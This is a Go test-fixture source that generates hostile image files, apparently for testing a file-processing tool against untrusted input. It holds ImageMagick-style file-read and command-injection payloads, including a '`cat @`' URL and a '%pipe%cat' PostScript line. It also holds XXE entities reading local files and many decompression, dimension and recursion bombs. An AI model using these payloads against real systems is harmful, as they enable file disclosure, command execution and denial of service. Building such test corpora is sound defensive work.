package hostile

import (
	"bytes"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"strings"

	"github.com/filewright/filewright/fileops"
	"github.com/filewright/filewright/internal/specimen"
)

// hostilePictures returns scripts and texts with the names of all kinds of
// pictures, and pictures whose metadata refers to t.
func hostilePictures(t target) []*fileops.File {
	var out []*fileops.File
	add := func(name, content string) { out = append(out, fileops.Bytes(name, []byte(content))) }
	ps := "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(" + t.path + ") (r) file 999 string readstring pop show (%pipe%cat " + t.path + ") (r) file closefile showpage\n"
	scripts := map[string]string{
		"msl":   `<?xml version="1.0"?><image>` + t.repeat(`<read filename="@"/><read filename="text:@"/>`) + `<write filename="out.png"/></image>`,
		"mvg":   "push graphic-context\nviewbox 0 0 64 64\n" + t.repeat("fill 'url(@)'\nimage over 0,0 64,64 '@'\nimage over 0,0 64,64 'ephemeral:@'\nimage over 0,0 0,0 'https://127.0.0.1/x.php?x=`cat @`'\n") + "pop graphic-context\n",
		"ps":    ps,
		"eps":   "\xc5\xd0\xd3\xc6" + string(binary.LittleEndian.AppendUint32(binary.LittleEndian.AppendUint32(nil, 30), uint32(len(ps)))) + zeros(16) + "\xff\xff" + ps,
		"xbm":   "#define x_width 9\n#define x_height 9\nstatic char x_bits[] = { 0x00, 0x01 };\n/* " + t.path + " */\n",
		"xpm":   "/* XPM */\nstatic char *x[] = { \"9 9 1 1\", \"a c #fff\" };\n/* @" + t.path + " */\n",
		"label": t.repeat("label:@@\ntext:@\ncaption:@@\nurl:@\nvid:@\nmsl:@\nephemeral:@\nshow:@\n"),
		"slide": "[GENERAL]\nSLIDE_VERSION=01.02\n[HIERARCHICAL]\n[DATAFILE]\nFILE_COUNT=1\nFILE_0=" + t.path + "\n",
		"lock":  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "` + t.file + `">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&e;</text></svg>`,
		"hdr":   "#?RADIANCE\nFORMAT=32-bit_rle_rgbe\nVIEW=" + t.path + "\n\n-Y 9 +X 9\n" + zeros(324),
		"vips":  "\xb6\xa6\xf2\x08" + zeros(60) + "<?xml version=\"1.0\"?><root><field type=\"VipsImage\" name=\"x\">" + t.path + "</field></root>",
		"mat":   "MATLAB 5.0 MAT-file" + strings.Repeat(" ", 105) + "\x00\x01IM" + t.path,
		"csv":   "1 2 3 4 @" + t.path + "\n",
		"wmf":   "\xd7\xcd\xc6\x9a" + zeros(18) + t.path,
		"fits":  pad("SIMPLE  =                    T", 80) + pad("HISTORY "+t.path, 80),
		"pbm":   "P1\n# " + t.path + "\n9 9\n" + strings.Repeat("0 ", 81),
	}
	for _, ext := range []string{"png", "jpg", "gif", "bmp", "tiff", "webp", "heic", "avif", "ico", "psd", "jp2", "jxl", "svg"} {
		for name, script := range scripts {
			add(name+"."+ext, script)
		}
	}

	xmp := `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><!DOCTYPE x [<!ENTITY e SYSTEM "` + t.file + `"><!ENTITY f SYSTEM "` + t.base + `/xmp">]><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:xmp="http://ns.adobe.com/xap/1.0/" dc:source="` + t.path + `"><dc:title>&e;&f;</dc:title><xmp:BaseURL>` + t.base + `</xmp:BaseURL></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`
	pic := specimen.Picture(16, 16)
	var b bytes.Buffer
	must := func(err error) string {
		if err != nil {
			panic(err) // impossible: writes only to memory
		}
		s := b.String()
		b.Reset()
		return s
	}
	p := must(png.Encode(&b, pic))
	head := p[:33] // signature and header
	add("profile.png", head+pngChunk("tEXt", "profile\x00"+t.path)+pngChunk("tEXt", "Comment\x00@"+t.path)+pngChunk("zTXt", "profile\x00\x00")+p[33:])
	add("xmp.png", head+pngChunk("iTXt", "XML:com.adobe.xmp\x00\x00\x00\x00\x00"+xmp)+p[33:])
	j := must(jpeg.Encode(&b, pic, nil))
	app := func(marker byte, s string) string {
		return "\xff" + string([]byte{marker}) + string(binary.BigEndian.AppendUint16(nil, uint16(len(s)+2))) + s
	}
	add("xmp.jpg", j[:2]+app(0xe1, "http://ns.adobe.com/xap/1.0/\x00"+xmp)+app(0xfe, "@"+t.path)+app(0xe2, "ICC_PROFILE\x00\x01\x01"+t.path)+j[2:])
	g := must(gif.Encode(&b, pic, nil))
	end := strings.LastIndexByte(g, ';')
	add("xmp.gif", g[:end]+"!\xff\x0bXMP DataXMP"+xmp+"\x01"+zeros(258)+"!\xfe\x04@x\x00\x00\x00"+g[end:])
	add("xmp.tiff", tiffOf(map[uint16][]uint32{256: {1}, 257: {1}, 258: {8}, 259: {1}, 262: {1}, 273: {8}, 278: {1}, 279: {1}}, map[uint16]string{700: xmp, 270: "@" + t.path, 269: t.path, 34675: t.path}, 0))
	return out
}

// pngChunk returns a chunk of a PNG.
func pngChunk(kind, s string) string {
	sum := crc32.ChecksumIEEE([]byte(kind + s))
	return string(binary.BigEndian.AppendUint32(nil, uint32(len(s)))) + kind + s + string(binary.BigEndian.AppendUint32(nil, sum))
}

// tiffOf returns a TIFF with one directory of numeric and text entries. next is
// the offset of the next directory: 0 for none, 1 for the same one.
func tiffOf(numbers map[uint16][]uint32, texts map[uint16]string, next uint32) string {
	le := binary.LittleEndian
	body := []byte("II*\x00\x00\x00\x00\x00\xff\x00")
	type field struct {
		kind     uint16
		n, value uint32
	}
	fields := make(map[uint16]field)
	for tag := range 65535 {
		if v, ok := numbers[uint16(tag)]; ok {
			at := v[0]
			if len(v) > 1 {
				at = uint32(len(body))
				for _, n := range v {
					body = le.AppendUint32(body, n)
				}
			}
			fields[uint16(tag)] = field{4, uint32(len(v)), at}
		}
		if s, ok := texts[uint16(tag)]; ok {
			fields[uint16(tag)] = field{7, uint32(len(s)), uint32(len(body))}
			body = append(body, s...)
			body = append(body, zeros(len(s)%2)...)
		}
	}
	le.PutUint32(body[4:], uint32(len(body)))
	if next == 1 {
		next = uint32(len(body))
	}
	body = le.AppendUint16(body, uint16(len(fields)))
	for tag := range 65535 {
		if f, ok := fields[uint16(tag)]; ok {
			body = le.AppendUint32(le.AppendUint32(le.AppendUint16(le.AppendUint16(body, uint16(tag)), f.kind), f.n), f.value)
		}
	}
	return string(le.AppendUint32(body, next))
}

// pictureBombs returns pictures that claim excessive dimensions or have an
// excessive number of parts.
func pictureBombs() []*fileops.File {
	var out []*fileops.File
	add := func(name, content string) { out = append(out, fileops.Bytes(name, []byte(content))) }
	be16, be32 := binary.BigEndian.AppendUint16, binary.BigEndian.AppendUint32
	huge := map[uint16][]uint32{256: {60000}, 257: {60000}, 258: {8}, 259: {1}, 262: {1}, 273: {8}, 277: {1}, 278: {60000}, 279: {1}}
	add("pixels.tiff", tiffOf(huge, nil, 0))
	add("loop.tiff", tiffOf(map[uint16][]uint32{256: {1}, 257: {1}, 258: {8}, 259: {1}, 262: {1}, 273: {8}, 277: {1}, 278: {1}, 279: {1}}, nil, 1))
	add("strips.tiff", tiffOf(map[uint16][]uint32{256: {1}, 257: {0x7fffffff}, 258: {8}, 259: {8}, 262: {1}, 273: {8}, 277: {65535}, 278: {1}, 279: {1}}, nil, 0))
	// All pages use the same strip.
	pages := []byte("II*\x00\x10\x00\x00\x00\xff\x00\x00\x00\x00\x00\x00\x00")
	const count = 5000
	for i := range count {
		le := binary.LittleEndian
		fields := [][2]uint32{{256, 2000}, {257, 2000}, {258, 1}, {259, 1}, {262, 1}, {273, 8}, {278, 2000}, {279, 500000}}
		pages = le.AppendUint16(pages, uint16(len(fields)))
		for _, f := range fields {
			pages = le.AppendUint32(le.AppendUint32(le.AppendUint16(le.AppendUint16(pages, uint16(f[0])), 4), 1), f[1])
		}
		next := uint32(len(pages) + 4)
		if i == count-1 {
			next = 0
		}
		pages = le.AppendUint32(pages, next)
	}
	add("pages.tiff", string(pages))
	// JPEG: a header of 65500 × 65500, with three scans that are missing.
	var jpegHead bytes.Buffer
	if err := jpeg.Encode(&jpegHead, image.NewGray(image.Rect(0, 0, 8, 8)), nil); err != nil {
		panic(err) // impossible: writes only to memory
	}
	j := jpegHead.Bytes()
	if i := bytes.Index(j, []byte("\xff\xc0")); i > 0 {
		copy(j[i+5:], "\xff\xdc\xff\xdc")
	}
	add("pixels.jpg", string(j))
	add("pixels.webp", riff("RIFF", "WEBP", riff("VP8X", "\x02\x00\x00\x00\xff\x3f\x00\xff\x3f\x00"), riff("ANIM", zeros(6)),
		strings.Repeat(riff("ANMF", zeros(6), "\xff\x3f\x00\xff\x3f\x00", "\x01\x00\x00\x00", riff("VP8L", "\x2f\xff\xff\xff\x0f\x88\x88\x08")), 500)))
	add("lossless.webp", riff("RIFF", "WEBP", riff("VP8L", "\x2f\xff\xff\xff\x0f\x88\x88\x08"+zeros(20))))
	add("pixels.psd", "8BPS\x00\x01"+zeros(6)+"\x00\x04"+string(be32(be32(nil, 30000), 30000))+"\x00\x08\x00\x03"+zeros(12)+"\x00\x01"+zeros(64))
	add("pixels.ico", "\x00\x00\x01\x00\x01\x00\x00\x00\x00\x00\x01\x00\x20\x00\x80\x00\x00\x00\x16\x00\x00\x00"+hugePNG())
	add("pixels.jp2", box("jP  ", "\r\n\x87\n")+box("ftyp", "jp2 \x00\x00\x00\x00jp2 ")+box("jp2h", box("ihdr", string(be32(be32(nil, 60000), 60000)), "\x00\x03\x07\x07\x00\x00"), box("colr", "\x01\x00\x00\x00\x00\x00\x10"))+
		box("jp2c", "\xff\x4f\xff\x51"+string(be16(nil, 47))+"\x00\x00"+string(be32(be32(be32(be32(be32(be32(be32(be32(nil, 60000), 60000), 0), 0), 1), 1), 0), 0))+"\x00\x03\x07\x01\x01\x07\x01\x01\x07\x01\x01\xff\x52\x00\x0c\x00\x00\x00\x01\x01\x05\x04\x04\x00\x01\xff\x5c\x00\x13\x40"+strings.Repeat("\x40", 16)+"\xff\x90\x00\x0a\x00\x00\x00\x00\x00\x00\x00\x01\xff\x93\xff\xd9"))
	for _, brand := range []string{"heic", "avif"} {
		codec := map[string]string{"heic": "hvc1", "avif": "av01"}[brand]
		full := "\x00\x00\x00\x00"
		add("pixels."+brand, box("ftyp", brand+"\x00\x00\x00\x00mif1"+brand)+box("meta", full, box("hdlr", full, zeros(4), "pict", zeros(13)), box("pitm", full, "\x00\x01"),
			box("iloc", full, "\x44\x00\x00\x01\x00\x01\x00\x00\x00\x01", string(be32(be32(nil, 0), 64))),
			box("iinf", full, "\x00\x02", box("infe", "\x02\x00\x00\x00", "\x00\x01\x00\x00grid\x00"), box("infe", "\x02\x00\x00\x00", "\x00\x02\x00\x00"+codec+"\x00")),
			box("iref", full, box("dimg", "\x00\x01\x00\x01\x00\x02")),
			box("iprp", box("ipco", box("ispe", full, string(be32(be32(nil, 0x7fffffff), 0x7fffffff)))), box("ipma", full, string(be32(nil, 1)), "\x00\x01\x01\x01")),
			box("idat", "\x00\x01\xff\xff", string(be32(be32(nil, 0x7fffffff), 0x7fffffff)))))
	}
	add("pixels.jxl", "\xff\x0a\xfa\xff\xff\xff\xff\xff\xff\xff"+zeros(40))
	// Text and a colour profile in a PNG, with an extreme compression ratio.
	p := hugePNG()
	small := "\x00\x00\x00\x09\x00\x00\x00\x09\x08\x00\x00\x00\x00"
	add("text.png", p[:8]+pngChunk("IHDR", small)+strings.Repeat(pngChunk("zTXt", "a\x00\x00"+zlibbed(zeros(32<<20))), 8)+pngChunk("iCCP", "a\x00\x00"+zlibbed(zeros(32<<20)))+pngChunk("IDAT", zlibbed(zeros(90)))+pngChunk("IEND", ""))
	// Frames as large as the screen.
	frames := "GIF89a" + "\x10\x27\x10\x27\x80\x00\x00\x00\x00\x00\xff\xff\xff" + strings.Repeat("!\xf9\x04\x08\x00\x00\x00\x00,\x00\x00\x00\x00\x10\x27\x10\x27\x00\x02\x02D\x01\x00", 2000) + ";"
	add("frames.gif", frames)
	var animation bytes.Buffer
	g := &gif.GIF{Config: image.Config{Width: 4000, Height: 4000, ColorModel: color.Palette{color.Black, color.White}}}
	dot := image.NewPaletted(image.Rect(0, 0, 1, 1), color.Palette{color.Black, color.White})
	for range 3000 {
		g.Image, g.Delay = append(g.Image, dot), append(g.Delay, 1)
	}
	if err := gif.EncodeAll(&animation, g); err != nil {
		panic(err) // impossible: writes only to memory
	}
	add("dots.gif", animation.String())
	// SVG.
	uses := `<g id="a0"><rect width="1" height="1"/></g>`
	for i := range 12 {
		uses += `<g id="a` + string(rune('a'+i)) + `">` + strings.Repeat(`<use href="#a`+map[bool]string{true: "0", false: string(rune('a' + i - 1))}[i == 0]+`"/>`, 10) + `</g>`
	}
	add("uses.svg", `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90"><defs>`+uses+`</defs><use href="#al"/></svg>`)
	add("loop.svg", `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90"><g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g><pattern id="p" width="1" height="1"><rect width="9" height="9" fill="url(#p)"/></pattern><rect width="90" height="90" fill="url(#p)"/></svg>`)
	add("blur.svg", `<svg xmlns="http://www.w3.org/2000/svg" width="9000" height="9000"><filter id="f" x="-1000%" y="-1000%" width="99999%" height="99999%"><feGaussianBlur stdDeviation="99999"/><feMorphology operator="dilate" radius="9999"/><feTurbulence numOctaves="99999"/></filter><rect width="9000" height="9000" filter="url(#f)"/></svg>`)
	add("deep.svg", `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90">`+strings.Repeat("<g>", 50000)+strings.Repeat("</g>", 50000)+`</svg>`)
	add("view.svg", `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e30 1e30" width="1e9cm" height="1e9cm"><pattern id="p" width=".0001" height=".0001" patternUnits="userSpaceOnUse"><rect width="1" height="1"/></pattern><rect width="1e30" height="1e30" fill="url(#p)" stroke-dasharray=".00001"/></svg>`)
	return out
}

// hugePNG returns a PNG of 60000 × 60000 pixels without data.
func hugePNG() string {
	return "\x89PNG\r\n\x1a\n" + pngChunk("IHDR", "\x00\x00\xea\x60\x00\x00\xea\x60\x08\x06\x00\x00\x00") + pngChunk("IDAT", zlibbed("\x00")) + pngChunk("IEND", "")
}
